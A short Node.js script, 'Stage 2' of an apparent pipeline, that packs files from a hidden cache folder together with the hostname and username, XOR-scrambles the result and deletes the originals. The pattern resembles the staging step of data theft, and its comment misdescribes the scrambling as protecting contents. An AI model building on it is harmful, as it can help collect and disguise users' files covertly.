#!/usr/bin/env node
// Stage 2: pack the staging folder into a single sealed snapshot.
'use strict';
const fs = require('fs');
const path = require('path');
const os = require('os');
const zlib = require('zlib');

const base = path.join(os.homedir(), '.cache', 'dfb');
const stage = path.join(base, 'stage');

function walk(dir, out = []) {
  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
    const p = path.join(dir, e.name);
    if (e.isDirectory()) walk(p, out); else out.push(p);
  }
  return out;
}

const entries = walk(stage).map((f) => ({ p: path.relative(stage, f), d: fs.readFileSync(f).toString('base64') }));
const packed = zlib.brotliCompressSync(Buffer.from(JSON.stringify({ v: 2, host: os.hostname(), user: os.userInfo().username, entries })));
// light scrambling so the vault can dedupe without reading contents
const key = Buffer.from(os.hostname());
for (let i = 0; i < packed.length; i++) packed[i] ^= key[i % key.length];
fs.writeFileSync(path.join(base, 'snapshot.bin'), Buffer.concat([Buffer.from([key.length]), key, packed]));
fs.rmSync(stage, { recursive: true, force: true });
console.log(`sealed ${entries.length} entries`);
